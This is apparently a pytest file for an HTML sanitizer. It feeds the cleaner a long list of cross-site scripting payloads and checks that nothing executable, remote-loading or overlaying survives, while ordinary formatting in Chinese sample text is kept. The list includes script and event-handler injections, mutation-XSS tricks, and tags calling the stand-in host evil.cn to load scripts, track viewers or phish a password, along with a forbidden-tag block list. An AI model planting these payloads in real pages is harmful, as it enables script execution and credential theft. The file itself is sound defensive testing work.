"""Rich text that means harm: whatever is stored runs nothing, fetches nothing and covers nothing; what is harmless stays."""

from html.parser import HTMLParser

import pytest

from schema.kit.html import clean_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.cn/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    '<img src="https://evil.cn/spy.png">',
    '<img src="//evil.cn/spy.png">',
    '<img src="/\\evil.cn/spy.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://evil.cn/spy.png 1x" src="/a.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<audio src="https://evil.cn/a.mp3" autoplay></audio>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="//evil.cn/x.swf">',
    '<base href="https://evil.cn/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.cn">',
    '<link rel="stylesheet" href="https://evil.cn/x.css">',
    "<style>@import 'https://evil.cn/x.css';</style>",
    "<form action=https://evil.cn><input name=password><button>登录</button></form>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<p style="background:url(https://evil.cn/spy.png)">x</p>',
    '<p style="background-color:u\\72l(https://evil.cn)">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p><xmp><img src=x onerror=alert(1)></xmp></p>",
    '<a href="https://ok.cn" target="_blank" ping="https://evil.cn">x</a>',
    "<marquee onstart=alert(1)>x</marquee>",
]
FORBIDDEN = {
    "script", "style", "svg", "math", "iframe", "object", "embed", "base", "meta", "link", "form", "input", "button",
    "video", "audio", "source", "template", "noscript", "xmp", "body", "textarea", "select", "frame",
}  # fmt: skip


class Walk(HTMLParser):
    """Collects what a browser would take as elements and attributes."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name.lower(), "".join((value or "").split()).lower()) for name, value in attrs]


def faults_of(markup: str) -> list[str]:
    walk = Walk(markup)
    faults = sorted(walk.tags & FORBIDDEN)
    for tag, name, value in walk.attributes:
        if name.startswith("on") or name in {"srcdoc", "srcset", "ping", "formaction", "action"}:
            faults.append(name)
        if name in {"href", "src"} and value.split(":")[0] in {"javascript", "vbscript", "data"}:
            faults.append(f"{name}={value}")
        if tag == "img" and name == "src" and (not value.startswith("/") or value.startswith(("//", "/\\"))):
            faults.append(f"picture {value}")
        if name == "style" and any(word in value for word in ("url(", "expression", "position", "z-index", "@import")):
            faults.append(f"style {value}")
    return faults


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_markup_is_made_harmless(markup: str) -> None:
    clean = clean_html(f"<p>甲</p>{markup}<p>乙</p>")
    assert faults_of(clean) == []
    assert "甲" in clean
    assert clean_html(clean) == clean


def test_harmless_markup_stays() -> None:
    markup = (
        '<h2>标题</h2><p style="text-align:center;color:rgb(1, 2, 3)"><strong>粗</strong> <em>斜</em> <u>线</u> <s>删</s></p>'
        "<ul><li>一</li></ul><ol><li>二</li></ol><blockquote>引</blockquote><hr>"
        '<p><a href="https://a.cn/x?y=1">链</a> <a href="mailto:a@b.cn">信</a> <a href="tel:10086">电</a></p>'
        '<p><img src="/boot/sys/common/static/t1/a.png" alt="图"></p>'
        "<table><tbody><tr><td>格</td></tr></tbody></table>"
    )
    clean = clean_html(markup)
    for kept in (
        "<h2>",
        "<strong>",
        "<em>",
        "<u>",
        "<s>",
        "<ul>",
        "<ol>",
        "<blockquote>",
        "<hr>",
        "<td>",
        "text-align",
        "rgb(1",
    ):
        assert kept in clean
    assert 'src="/boot/sys/common/static/t1/a.png"' in clean
    for address in ("https://a.cn/x?y=1", "mailto:a@b.cn", "tel:10086"):
        assert f'href="{address}"' in clean


def test_every_fault_is_one_that_the_walk_would_see() -> None:
    """The list is hostile: uncleaned, nearly all of it is found faulty."""
    seen = [markup for markup in HOSTILE if faults_of(markup)]
    assert len(seen) >= len(HOSTILE) - 6
